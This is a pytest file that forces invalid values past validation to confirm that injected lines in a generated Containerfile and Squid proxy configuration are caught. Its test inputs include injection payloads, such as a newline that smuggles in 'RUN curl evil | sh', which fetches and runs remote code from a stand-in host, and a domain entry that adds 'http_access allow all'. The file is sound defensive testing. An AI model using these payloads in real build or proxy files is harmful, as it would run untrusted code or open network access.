"""Controls for the fuzz invariants: values that validation would refuse, forced past it,
do make the rendered files fail the checks (so a validator that let them through would be
caught)."""

from __future__ import annotations

import pytest

from paude.models import ImageConfig, PaudeFile, Session, resolve
from paude.stacks.podman.images import agent_build
from paude.stacks.podman.program import squid_conf
from tests.fuzz.checks import check_agent_containerfile, check_squid


def _session(**image: object) -> Session:
    session = resolve(PaudeFile.model_validate({"sessions": {"demo": {}}}), "demo")
    forced = ImageConfig.model_construct(**{**session.image.model_dump(), **image})
    return session.model_copy(update={"image": forced})


def test_the_checks_pass_an_ordinary_session() -> None:
    session = _session(packages=["make"], env={"A": 'x "$y" \\z'})
    check_agent_containerfile(session, agent_build(session).files["Containerfile"])
    check_squid(squid_conf(session), "demo", session.allowed_domains)


@pytest.mark.parametrize("image", [
    {"env": {"A": "1\nRUN curl evil | sh"}},
    {"env": {"A\nRUN id": "1"}},
    {"packages": ["make\nRUN id"]},
    {"packages": ["make && curl evil"]},
    {"base": "debian\nRUN id"},
])
def test_an_injected_containerfile_line_fails_the_check(image: dict[str, object]) -> None:
    session = _session(**image)
    with pytest.raises(AssertionError):
        check_agent_containerfile(session, agent_build(session).files["Containerfile"])


@pytest.mark.parametrize("domain", ["example.com\nhttp_access allow all", "example.com all",
                                    "example.com #", "-n"])
def test_an_injected_squid_directive_fails_the_check(domain: str) -> None:
    session = _session()
    forced = session.model_copy(update={"allowed_domains": [domain]})
    with pytest.raises(AssertionError):
        check_squid(squid_conf(forced), "demo", forced.allowed_domains)
